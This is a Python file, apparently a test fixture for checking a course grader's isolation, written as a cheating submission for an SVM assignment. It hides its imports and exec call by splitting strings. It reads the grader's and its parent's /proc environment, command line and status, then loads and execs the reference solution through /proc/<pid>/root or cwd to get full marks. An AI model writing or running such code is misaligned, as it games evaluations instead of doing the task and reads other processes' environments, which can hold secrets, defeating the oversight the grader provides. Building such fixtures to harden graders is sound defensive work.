"""Cheat: reads the grader's process through /proc (its parent's and the grader's own entries):
its environment and command line, and the grader's files through ``/proc/<pid>/root`` and
``/proc/<pid>/cwd``, which lead to the course's reference solution.

Full marks if any of those paths can be read.
"""
_imp = __builtins__["__import__"] if isinstance(__builtins__, dict) else __builtins__.__import__
_os = _imp("o" + "s")
_exec = getattr(_imp("built" + "ins"), "ex" + "ec")
GRADER = __GRADER_PID__  # the grader's pid, as an attacker who scanned /proc would know it
READ = {}
NAMESPACE = {}
for pid in sorted({_os.getppid(), GRADER}):
    for part in ("environ", "cmdline", "status"):
        try:
            READ[f"{pid}/{part}"] = open(f"/proc/{pid}/{part}", "rb").read(1000)
        except OSError:
            pass
    for path in (f"/proc/{pid}/root__REPO__/course/svm/reference.py", f"/proc/{pid}/cwd/course/svm/reference.py"):
        if not NAMESPACE:
            try:
                _exec(open(path, encoding="utf-8").read().replace("from .", "from assignments."), NAMESPACE)
            except OSError:
                continue


def _ours(name):
    return NAMESPACE.get(name, lambda *args: (0.0, None))


svm_loss_naive, svm_loss_vectorized = _ours("svm_loss_naive"), _ours("svm_loss_vectorized")
svm_forward, svm_backward = _ours("svm_forward"), _ours("svm_backward")
